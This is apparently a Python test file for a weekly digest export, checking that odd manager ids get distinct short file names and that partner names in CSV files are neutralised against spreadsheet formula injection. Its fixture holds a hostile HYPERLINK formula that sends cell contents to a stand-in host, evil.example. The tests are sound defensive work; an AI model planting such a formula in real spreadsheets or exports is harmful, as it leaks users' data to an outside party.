"""The weekly digest files: any manager id gives a file; partner names cannot run as formulas."""

from __future__ import annotations

import csv
from pathlib import Path

from serving.db import get_engine, session_scope, upgrade
from serving.db.week import save_week
from serving.digest import plan_csv, write_digest
from tests.serving._db import make_week

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def _digest(tmp_path: Path, managers: tuple[str, ...]) -> list[Path]:
    engine = get_engine(f"sqlite:///{tmp_path / 'db.sqlite'}")
    upgrade(engine)
    week = make_week(partners=4, managers=managers)
    week.partners.loc[0, "name"] = HOSTILE
    with session_scope(engine) as session:
        save_week(session, week)
    with session_scope(engine) as session:
        return write_digest(session, week=week.week, out_dir=tmp_path / "out")


def test_a_very_long_or_odd_manager_id_still_gets_its_own_files(tmp_path: Path) -> None:
    long_id = "M" * 1_000_000
    written = _digest(tmp_path, (long_id, "a/b", "a_b"))
    assert len(written) == 6  # csv + html for each of three managers, none overwritten
    assert all(len(p.name) < 100 for p in written)
    assert len({p.name for p in written}) == 6


def test_partner_names_in_csv_exports_cannot_run_as_formulas(tmp_path: Path) -> None:
    written = _digest(tmp_path, ("m1", "m2"))
    cells = [
        cell
        for path in written
        if path.suffix == ".csv"
        for row in csv.reader(path.read_text(encoding="utf-8").splitlines())
        for cell in row
    ]
    assert "'" + HOSTILE in cells
    assert not any(c.startswith(("=", "+", "@")) for c in cells)


def test_the_review_page_export_is_neutralised_too() -> None:
    import pandas as pd

    actions = pd.DataFrame({"partner_name": [HOSTILE], "priority": [-1.0], "reasons": [[]]})
    rows = list(csv.reader(plan_csv(actions).splitlines()))
    header, first = rows[0], rows[1]
    assert first[header.index("partner_name")] == "'" + HOSTILE
    assert first[header.index("priority")] == "-1.0"
